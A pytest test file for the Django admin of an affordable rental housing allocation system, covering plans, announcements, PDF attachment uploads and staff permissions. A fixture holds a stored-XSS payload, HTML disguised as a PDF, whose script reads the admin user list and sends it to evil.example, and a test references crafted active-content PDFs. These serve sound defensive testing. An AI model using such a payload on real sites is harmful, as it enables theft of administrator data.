import re
from datetime import timedelta

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from pytest_django.asserts import assertContains, assertNotContains

from plans.models import Announcement, AnnouncementAttachment, Plan
from tests.clock import AFTER_MIDNIGHT, MORNING, beijing
from tests.corpus import pdfs as crafted
from tests.factories import (
    form_data,
    make_announcement,
    make_attachment,
    make_plan,
    make_project,
    make_staff,
    pdf_of_size,
)

AT_LEAST_ONE_PROJECT = "已发布或已关闭的配租计划至少需要包含一个配租项目。"


def admin_url(name: str, *args) -> str:
    return reverse(f"admin:plans_{name}", args=args)


def view_on_site(obj) -> str:
    content_type = ContentType.objects.get_for_model(obj)
    return reverse("admin:view_on_site", args=[content_type.pk, obj.pk])


def plan_form(client, projects=(), **overrides) -> dict:
    """The add-plan form as a staff member fills it: a two-week window, the given projects."""
    html = client.get(admin_url("plan_add")).content.decode()
    fields = {
        "title": "2026年第六批保障性租赁住房专项配租计划",
        "summary": "面向新就业大学生。",
        "status": Plan.Status.PUBLISHED,
        "info_opens_at_0": "2026-06-01",
        "info_opens_at_1": "09:00:00",
        "registration_starts_at_0": "2026-06-08",
        "registration_starts_at_1": "09:00:00",
        "registration_ends_at_0": "2026-06-22",
        "registration_ends_at_1": "17:00:00",
        "plan_projects-TOTAL_FORMS": str(len(projects)),
    }
    for index, project in enumerate(projects):
        fields[f"plan_projects-{index}-project"] = str(project.pk)
        fields[f"plan_projects-{index}-homes"] = "120"
        fields[f"plan_projects-{index}-position"] = str(index)
    fields.update(overrides)
    return form_data(html, "plan_form", **fields)


def run_action(client, action: str, plans: list[Plan]):
    return client.post(
        admin_url("plan_changelist"),
        {"action": action, "_selected_action": [plan.pk for plan in plans], "index": "0"},
        follow=True,
    )


# Plan pages --------------------------------------------------------------------------------


def test_plan_list_shows_state_and_project_count(staff_client):
    make_plan(title="第四批计划", projects=[make_project(), make_project()])
    response = staff_client.get(admin_url("plan_changelist"))
    assert response.status_code == 200
    assertContains(response, "第四批计划")
    assertContains(response, '<td class="field-registration_state_badge">登记中</td>', html=True)
    assertContains(response, '<td class="field-project_count">2</td>', html=True)


def test_plan_list_searches_titles(staff_client):
    make_plan(title="青年人才专项配租计划")
    make_plan(title="新市民专项配租计划")
    response = staff_client.get(admin_url("plan_changelist"), {"q": "青年人才"})
    assertContains(response, "青年人才专项配租计划")
    assertNotContains(response, "新市民专项配租计划")


def test_plan_list_filters_by_status_and_date(staff_client):
    make_plan(title="已关闭的计划", status=Plan.Status.CLOSED, starts=beijing(2026, 6, 1, 9))
    # 00:30 on New Year's Day in Beijing is still 2026 in UTC: the year is Beijing's.
    make_plan(title="草稿计划", status=Plan.Status.DRAFT, starts=beijing(2027, 1, 1, 0, 30))
    closed = staff_client.get(admin_url("plan_changelist"), {"status__exact": "closed"})
    assertContains(closed, "已关闭的计划")
    assertNotContains(closed, "草稿计划")
    by_year = staff_client.get(
        admin_url("plan_changelist"), {"registration_starts_at__year": "2027"}
    )
    assertContains(by_year, "草稿计划")
    assertNotContains(by_year, "已关闭的计划")
    by_year = staff_client.get(
        admin_url("plan_changelist"), {"registration_starts_at__year": "2026"}
    )
    assertContains(by_year, "已关闭的计划")
    assertNotContains(by_year, "草稿计划")


def test_plan_add_page_opens_with_the_projects_inline(staff_client):
    response = staff_client.get(admin_url("plan_add"))
    assert response.status_code == 200
    assertContains(response, 'name="plan_projects-TOTAL_FORMS"')
    assertContains(response, "保存计划后可添加公告。")


def test_plan_change_page_lists_announcements_and_links_to_the_site(staff_client):
    plan = make_plan()
    # Published at 00:30 on 1 March in Beijing, 28 February in UTC: the date is Beijing's.
    announcement = make_announcement(plan, title="第四批配租公告", published_at=AFTER_MIDNIGHT)
    response = staff_client.get(admin_url("plan_change", plan.pk))
    assert response.status_code == 200
    assertContains(response, "第四批配租公告</a>（2027-03-01）")
    assertContains(response, f'href="{admin_url("announcement_change", announcement.pk)}"')
    assertContains(response, f'href="{admin_url("announcement_add")}?plan={plan.pk}"')
    assertContains(response, f'href="{view_on_site(plan)}"')


def test_creating_a_published_plan_with_a_project(staff_client):
    project = make_project()
    response = staff_client.post(admin_url("plan_add"), plan_form(staff_client, [project]))
    assert response.status_code == 302
    plan = Plan.objects.get()
    assert plan.status == Plan.Status.PUBLISHED
    assert timezone.localtime(plan.registration_starts_at).hour == 9
    offering = plan.plan_projects.get()
    assert (offering.project, offering.homes) == (project, 120)


def test_registration_ending_before_it_starts_is_refused(staff_client):
    data = plan_form(
        staff_client,
        [make_project()],
        registration_ends_at_0="2026-06-07",
    )
    response = staff_client.post(admin_url("plan_add"), data)
    assert response.status_code == 200
    assert response.context["adminform"].form.errors == {
        "registration_ends_at": ["登记结束时间必须晚于登记开始时间。"]
    }
    assertContains(response, "登记结束时间必须晚于登记开始时间。")
    assert not Plan.objects.exists()


def test_info_filling_opening_after_registration_starts_is_refused(staff_client):
    data = plan_form(staff_client, [make_project()], info_opens_at_0="2026-06-09")
    response = staff_client.post(admin_url("plan_add"), data)
    assert response.status_code == 200
    assertContains(response, "信息填报开始时间不能晚于登记开始时间。")
    assert not Plan.objects.exists()


@pytest.mark.parametrize("status", [Plan.Status.PUBLISHED, Plan.Status.CLOSED])
def test_public_plan_without_projects_is_refused(staff_client, status):
    response = staff_client.post(admin_url("plan_add"), plan_form(staff_client, status=status))
    assert response.status_code == 200
    assertContains(response, AT_LEAST_ONE_PROJECT)
    assert not Plan.objects.exists()


def test_draft_plan_may_be_saved_without_projects(staff_client):
    data = plan_form(staff_client, status=Plan.Status.DRAFT)
    assert staff_client.post(admin_url("plan_add"), data).status_code == 302
    assert Plan.objects.get().status == Plan.Status.DRAFT


def test_removing_the_last_project_of_a_published_plan_is_refused(staff_client):
    plan = make_plan()
    html = staff_client.get(admin_url("plan_change", plan.pk)).content.decode()
    data = form_data(html, "plan_form", **{"plan_projects-0-DELETE": "on"})
    response = staff_client.post(admin_url("plan_change", plan.pk), data)
    assert response.status_code == 200
    assertContains(response, AT_LEAST_ONE_PROJECT)
    assert plan.plan_projects.count() == 1


@pytest.mark.time_machine(MORNING, tick=False)
def test_unchanged_plan_form_saves_as_it_is(staff_client):
    starts = beijing(2026, 6, 1, 9)
    plan = make_plan(starts=starts)
    html = staff_client.get(admin_url("plan_change", plan.pk)).content.decode()
    response = staff_client.post(admin_url("plan_change", plan.pk), form_data(html, "plan_form"))
    assert response.status_code == 302
    refreshed = Plan.objects.get(pk=plan.pk)
    assert refreshed.registration_starts_at == starts
    assert refreshed.registration_ends_at == plan.registration_ends_at
    assert refreshed.status == Plan.Status.PUBLISHED
    assert refreshed.plan_projects.count() == 1


# Actions -----------------------------------------------------------------------------------


def test_publish_action_publishes_drafts_with_projects_and_refuses_the_others(staff_client):
    ready = make_plan(title="已配好项目的草稿", status=Plan.Status.DRAFT)
    empty = make_plan(title="还没有项目的草稿", status=Plan.Status.DRAFT, projects=[])
    response = run_action(staff_client, "publish", [ready, empty])
    assert response.status_code == 200
    assertContains(response, "以下计划没有配租项目，不能发布：还没有项目的草稿")
    assertContains(response, "已发布 1 个配租计划。")
    ready.refresh_from_db()
    empty.refresh_from_db()
    assert ready.status == Plan.Status.PUBLISHED
    assert empty.status == Plan.Status.DRAFT


def test_publish_action_with_only_empty_drafts_publishes_nothing(staff_client):
    empty = make_plan(title="还没有项目的草稿", status=Plan.Status.DRAFT, projects=[])
    response = run_action(staff_client, "publish", [empty])
    assertContains(response, "以下计划没有配租项目，不能发布：还没有项目的草稿")
    assertNotContains(response, "已发布 0 个配租计划。")
    empty.refresh_from_db()
    assert empty.status == Plan.Status.DRAFT


def test_publish_action_leaves_closed_plans_closed(staff_client):
    closed = make_plan(status=Plan.Status.CLOSED)
    run_action(staff_client, "publish", [closed])
    closed.refresh_from_db()
    assert closed.status == Plan.Status.CLOSED


def test_close_action_closes_published_plans_only(staff_client):
    published = make_plan()
    draft = make_plan(status=Plan.Status.DRAFT)
    response = run_action(staff_client, "close", [published, draft])
    assertContains(response, "已关闭 1 个配租计划。")
    published.refresh_from_db()
    draft.refresh_from_db()
    assert published.status == Plan.Status.CLOSED
    assert draft.status == Plan.Status.DRAFT


def test_plan_manager_cannot_delete_a_plan(client, db):
    client.force_login(make_staff(group="配租管理员"))
    plan = make_plan()
    assert client.get(admin_url("plan_delete", plan.pk)).status_code == 403
    assertNotContains(client.get(admin_url("plan_changelist")), 'value="delete_selected"')


# Announcements -----------------------------------------------------------------------------


def announcement_form(client, plan: Plan, attachment=None, **overrides) -> dict:
    html = client.get(admin_url("announcement_add"), {"plan": plan.pk}).content.decode()
    fields = {"title": "关于第六批专项配租的公告", "body": "## 申请条件\n\n- 年满18周岁"}
    if attachment is not None:
        fields.update(
            {
                "attachments-TOTAL_FORMS": "1",
                "attachments-0-title": "申请表",
                "attachments-0-file": attachment,
                "attachments-0-position": "0",
            }
        )
    fields.update(overrides)
    return form_data(html, "announcement_form", **fields)


def test_announcement_pages_open(staff_client):
    announcement = make_announcement(make_plan(), title="第四批配租公告")
    make_attachment(announcement, title="盖章版公告")
    changelist = staff_client.get(admin_url("announcement_changelist"))
    assert changelist.status_code == 200
    assertContains(changelist, "第四批配租公告")
    assert staff_client.get(admin_url("announcement_add")).status_code == 200
    change = staff_client.get(admin_url("announcement_change", announcement.pk))
    assert change.status_code == 200
    assertContains(change, 'value="盖章版公告"')
    assertContains(change, f'href="{view_on_site(announcement)}"')


def test_announcement_list_searches_and_filters_by_plan(staff_client):
    first, second = make_plan(title="第一个计划"), make_plan(title="第二个计划")
    make_announcement(first, title="甲公告", body="面向青年人才")
    make_announcement(second, title="乙公告", body="面向新市民")
    changelist = admin_url("announcement_changelist")
    by_body = staff_client.get(changelist, {"q": "新市民"})
    assertContains(by_body, "乙公告")
    assertNotContains(by_body, "甲公告")
    by_plan = staff_client.get(changelist, {"plan__id__exact": str(first.pk)})
    assertContains(by_plan, "甲公告")
    assertNotContains(by_plan, "乙公告")


def test_add_announcement_link_preselects_the_plan(staff_client):
    plan = make_plan()
    data = announcement_form(staff_client, plan)
    assert data["plan"] == str(plan.pk)


def test_creating_an_announcement_with_a_pdf_records_its_size(staff_client):
    plan = make_plan()
    pdf = SimpleUploadedFile("申请表.pdf", pdf_of_size(4096), content_type="application/pdf")
    response = staff_client.post(
        admin_url("announcement_add"), announcement_form(staff_client, plan, pdf)
    )
    assert response.status_code == 302
    announcement = Announcement.objects.get(plan=plan)
    attachment = announcement.attachments.get()
    stored = read(attachment)
    assert attachment.size == len(stored) < 4096  # rewritten: the padding is gone
    assert stored.startswith(b"%PDF-")
    assert attachment.file.name.startswith("announcements/")
    assert attachment.file.name.endswith(".pdf")
    assert "申请表" not in attachment.file.name


def test_attachment_that_is_not_a_pdf_is_refused(staff_client):
    plan = make_plan()
    fake = SimpleUploadedFile(
        "notice.pdf", b"MZ\x90\x00 an executable", content_type="application/pdf"
    )
    response = staff_client.post(
        admin_url("announcement_add"), announcement_form(staff_client, plan, fake)
    )
    assert response.status_code == 200
    assertContains(response, "附件必须是 PDF 文件。")
    assert not Announcement.objects.exists()
    assert not AnnouncementAttachment.objects.exists()


# Issue #10, finding 1: an HTML page that began with %PDF- was stored as form.html, linked on
# the public 配租公告 page, served as text/html, and its script read /admin/ as the superuser.
HTML_STARTING_LIKE_A_PDF = (
    b"%PDF-1.4\n<html><body><script>fetch('/admin/accounts/user/')"
    b".then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))"
    b"</script></body></html>\n%%EOF\n"
)


def read(attachment: AnnouncementAttachment) -> bytes:
    with attachment.file.open("rb") as file:
        return file.read()


def announcements_stored() -> list[str]:
    return (
        sorted(default_storage.listdir("announcements")[1])
        if default_storage.exists("announcements")
        else []
    )


def test_html_page_starting_like_a_pdf_is_refused_beside_the_field(staff_client):
    plan = make_plan()
    page = SimpleUploadedFile("form.html", HTML_STARTING_LIKE_A_PDF, content_type="text/html")
    before = announcements_stored()

    response = staff_client.post(
        admin_url("announcement_add"), announcement_form(staff_client, plan, page)
    )

    assert response.status_code == 200
    attachment_forms = response.context["inline_admin_formsets"][0].formset.forms
    assert attachment_forms[0].errors == {"file": ["文件不是有效的 PDF，请重新导出后上传。"]}
    assertContains(response, 'value="关于第六批专项配租的公告"')  # what was typed is kept
    assert not Announcement.objects.exists()
    assert announcements_stored() == before


def test_pdf_sent_as_html_is_stored_rewritten_under_a_pdf_name(staff_client):
    plan = make_plan()
    content = crafted.active("OpenAction JavaScript")
    sent = SimpleUploadedFile("form.html", content, content_type="text/html")

    response = staff_client.post(
        admin_url("announcement_add"), announcement_form(staff_client, plan, sent)
    )

    assert response.status_code == 302
    attachment = AnnouncementAttachment.objects.get()
    assert attachment.file.name.endswith(".pdf")
    assert "form" not in attachment.file.name
    crafted.assert_inert(read(attachment))
    assert attachment.size == len(read(attachment))


def test_attachment_linked_on_the_announcement_is_served_as_a_sandboxed_pdf(staff_client, now):
    plan = make_plan()
    sent = SimpleUploadedFile("form.html", crafted.honest(), content_type="text/html")
    form = announcement_form(
        staff_client, plan, sent, published_at_0="2020-01-01", published_at_1="09:00:00"
    )
    assert staff_client.post(admin_url("announcement_add"), form).status_code == 302
    page = staff_client.get(plan.get_absolute_url()).content.decode()
    link = re.search(r'<a href="(/media/announcements/[^"]+)" type="application/pdf">', page)

    response = staff_client.get(link.group(1))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"


def test_attachment_over_20_mb_is_refused_before_it_is_read(staff_client):
    plan = make_plan()
    big = SimpleUploadedFile("notice.pdf", pdf_of_size(20 * 1024 * 1024 + 1))
    response = staff_client.post(
        admin_url("announcement_add"), announcement_form(staff_client, plan, big)
    )
    assert response.status_code == 200
    assertContains(response, "附件不能超过 20 MB。")
    assert not Announcement.objects.exists()


# Who may not -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "page",
    [
        "plan_changelist",
        "plan_add",
        "plan_change",
        "announcement_changelist",
        "announcement_add",
        "announcement_change",
    ],
)
def test_reviewer_is_forbidden_the_plan_pages(reviewer_client, page):
    plan = make_plan()
    announcement = make_announcement(plan)
    args = {"plan_change": [plan.pk], "announcement_change": [announcement.pk]}
    response = reviewer_client.get(admin_url(page, *args.get(page, [])))
    assert response.status_code == 403


def test_reviewer_cannot_run_plan_actions(reviewer_client):
    plan = make_plan(status=Plan.Status.DRAFT)
    response = reviewer_client.post(
        admin_url("plan_changelist"),
        {"action": "publish", "_selected_action": [plan.pk], "index": "0"},
    )
    assert response.status_code == 403
    plan.refresh_from_db()
    assert plan.status == Plan.Status.DRAFT


def autocomplete(client, model_name: str, field_name: str, term: str) -> list[str]:
    response = client.get(
        reverse("admin:autocomplete"),
        {"app_label": "plans", "model_name": model_name, "field_name": field_name, "term": term},
    )
    assert response.status_code == 200
    return [result["text"] for result in response.json()["results"]]


def test_plan_form_finds_projects_by_name_in_name_order(staff_client):
    for name in ("C望京公寓", "A望京公寓", "亦庄宜居园", "B望京公寓"):
        make_project(name=name)
    found = autocomplete(staff_client, "planproject", "project", "望京")
    assert found == ["A望京公寓", "B望京公寓", "C望京公寓"]


def test_announcement_form_finds_plans_by_title_newest_first(staff_client, now):
    make_plan(title="新市民计划（旧）", starts=now - timedelta(days=90))
    make_plan(title="青年人才计划", starts=now)
    make_plan(title="新市民计划（新）", starts=now + timedelta(days=30))
    make_plan(title="新市民计划（中）", starts=now - timedelta(days=10))
    found = autocomplete(staff_client, "announcement", "plan", "新市民")
    assert found == ["新市民计划（新）", "新市民计划（中）", "新市民计划（旧）"]
